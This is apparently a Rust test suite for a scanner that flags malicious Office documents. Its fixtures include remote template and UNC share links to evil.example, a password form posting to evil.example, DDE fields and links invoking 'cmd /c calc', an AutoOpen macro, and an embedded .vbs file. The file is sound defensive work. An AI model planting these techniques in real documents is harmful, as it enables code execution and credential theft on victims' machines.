//! Documents of Office Open XML as attackers and offices write them.

use super::super::fixtures::{compound_file, docx, macro_project, names, ole10_native};
use super::super::{read, read_with_pictures};
use banner_core::readings::{Feature, PartContents};

#[track_caller]
fn document(parts: &[(&str, &[u8])]) -> PartContents {
    read(&docx(parts), "a.docx").unwrap()
}

fn relationship(kind: &str, target: &str) -> String {
    format!(
        "<Relationships><Relationship Id='r1' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}' Target='{target}' TargetMode='External'/></Relationships>"
    )
}

#[test]
fn what_is_loaded_from_outside_is_told_apart() {
    for (kind, feature) in [
        ("attachedTemplate", Some(Feature::RemoteTemplate)),
        ("oleObject", Some(Feature::RemoteObject)),
        ("image", Some(Feature::ExternalContent)),
        ("hyperlink", None),
    ] {
        let rels = relationship(kind, "https://evil.example/x?a=1&amp;b=2");
        let contents = document(&[("word/_rels/settings.xml.rels", rels.as_bytes())]);
        assert_eq!(
            contents.features,
            feature.into_iter().collect::<Vec<_>>(),
            "{kind}"
        );
        assert_eq!(contents.links, ["https://evil.example/x?a=1&b=2"]);
    }
}

#[test]
fn shares_are_read_however_they_are_written() {
    for target in [
        r"\\evil.example\s\t.dotm",
        r"file:///\\evil.example\s\t.dotm",
        "file://evil.example/s/t.dotm",
        "file:////evil.example/s/t.dotm",
        "//evil.example/s/t.dotm",
    ] {
        for (kind, feature) in [
            ("attachedTemplate", Some(Feature::RemoteTemplate)),
            ("externalLinkPath", Some(Feature::ExternalContent)),
            ("hyperlink", None),
        ] {
            let rels = relationship(kind, target);
            let contents = document(&[("word/_rels/settings.xml.rels", rels.as_bytes())]);
            assert_eq!(
                contents.features,
                feature.into_iter().collect::<Vec<_>>(),
                "{target}"
            );
            assert_eq!(contents.links, [r"\\evil.example\s\t.dotm"], "{target}");
        }
    }
}

#[test]
fn a_template_on_the_own_disk_or_network_is_usual() {
    for target in [
        "file:///C:/Templates/Letter.dotx",
        r"file:///\\server7\Templates\Letter.dotx",
    ] {
        let rels = relationship("attachedTemplate", target);
        assert_eq!(
            document(&[("word/_rels/settings.xml.rels", rels.as_bytes())]),
            PartContents {
                kind: Some(banner_core::readings::Kind::Document),
                ..PartContents::default()
            }
        );
    }
}

#[test]
fn what_a_document_says_and_shows_is_kept() {
    let text = "<w:document><w:p><w:r><w:t>工资</w:t></w:r><w:r><w:t xml:space='preserve'>补贴 &amp; more</w:t></w:r></w:p><w:p><w:r><w:t>请扫码</w:t></w:r></w:p></w:document>";
    let parts: [(&str, &[u8]); 3] = [
        ("word/document.xml", text.as_bytes()),
        ("word/media/image1.png", b"\x89PNG"),
        ("word/media/image2.emf", b"x"),
    ];
    let (contents, pictures) = read_with_pictures(&docx(&parts), "a.docx").unwrap();
    assert_eq!(contents.text, "\n工资补贴 & more\n请扫码");
    assert_eq!(pictures, [b"\x89PNG"]);
    let slide = document(&[("ppt/slides/slide1.xml", b"<a:p><a:t>Open</a:t></a:p>")]);
    assert_eq!(slide.text, "\nOpen");
    let sheet = document(&[(
        "xl/sharedStrings.xml",
        b"<si><t>One</t></si><si><t>Two</t></si>",
    )]);
    assert_eq!(sheet.text, "\nOne\nTwo");
}

#[test]
fn pages_that_become_text_are_read() {
    let form = b"<html><form action='https://evil.example/'><input type=password></form>";
    let contents = document(&[("word/afchunk.html", form)]);
    assert_eq!(contents.features, [Feature::SignIn]);
    assert_eq!(contents.messages.len(), 1);
    let contents = document(&[("word/afchunk.xhtml", form)]);
    assert_eq!(contents.features, [Feature::SignIn]);
    let letter = b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<a href='https://evil.example/'>x</a>";
    let contents = document(&[("word/afchunk.mht", letter)]);
    assert_eq!(contents.messages.len(), 1);
    assert_eq!(contents.features, []);
    let contents = document(&[("word/afchunk.html", b"<html><p>Plan</p>")]);
    assert_eq!(contents.features, []);
}

#[test]
fn shapes_that_start_programs_are_told_from_those_that_turn_pages() {
    for (action, features) in [
        ("ppaction://program", vec![Feature::Launch]),
        ("ppaction://hlinksldjump", vec![]),
    ] {
        let slide = format!("<a:hlinkClick r:id='rId2' action='{action}'/>");
        let contents = document(&[("ppt/slides/slide1.xml", slide.as_bytes())]);
        assert_eq!(contents.features, features);
    }
}

#[test]
fn text_and_pictures_are_bounded() {
    let text = format!("<w:t>{}</w:t>", "a".repeat(100_000));
    let media: Vec<String> = (0..30).map(|n| format!("word/media/{n}.png")).collect();
    let mut parts: Vec<(&str, &[u8])> = vec![("word/document.xml", text.as_bytes())];
    parts.extend(media.iter().map(|name| (name.as_str(), &b"x"[..])));
    let (contents, pictures) = read_with_pictures(&docx(&parts), "a.docx").unwrap();
    assert_eq!((contents.text.len(), pictures.len()), (8 * 1024, 20));
}

#[test]
fn fields_spread_over_runs_are_put_together() {
    let text = b"<w:fldChar/><w:instrText>DDE</w:instrText><w:r/><w:instrText xml:space='preserve'>AUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"</w:instrText><w:fldChar/>";
    assert_eq!(
        document(&[("word/document.xml", text)]).features,
        [Feature::Dde]
    );
}

#[test]
fn macros_are_read_from_their_project() {
    let project = macro_project("Sub AutoOpen()\r\nx = 1\r\nEnd Sub\r\n");
    let contents = document(&[("word/vbaProject.bin", &project)]);
    assert_eq!(contents.features, [Feature::Macro, Feature::AutoMacro]);
}

#[test]
fn sheets_of_old_macros_and_links_to_programs_are_found() {
    let names = b"<definedNames><definedName name='_xlnm.Auto_Open'>Macro1!$A$1</definedName></definedNames>";
    let dde = b"<ddeLink ddeService='cmd' ddeTopic='/c calc'/>";
    let contents = document(&[
        ("xl/macrosheets/sheet1.xml", b"<x/>"),
        ("xl/workbook.xml", names),
        ("xl/externalLinks/externalLink1.xml", dde),
    ]);
    assert_eq!(
        contents.features,
        [Feature::Macro, Feature::AutoMacro, Feature::Dde]
    );
    assert_eq!(contents.command.as_deref(), Some("cmd /c calc"));
}

#[test]
fn embedded_files_are_told_from_embedded_documents() {
    let object = compound_file(&[(
        "\u{1}Ole10Native",
        &ole10_native("a.pdf", "C:\\a.vbs", b"x=1"),
    )]);
    let contents = document(&[("word/embeddings/oleObject1.bin", &object)]);
    assert_eq!(contents.features, [Feature::EmbeddedFile]);
    assert_eq!(names(&contents), ["a.vbs"]);
    let chart = docx(&[("xl/workbook.xml", b"<x/>")]);
    let contents = document(&[("word/embeddings/Microsoft_Excel_Sheet.xlsx", &chart)]);
    assert_eq!(contents.features, []);
}
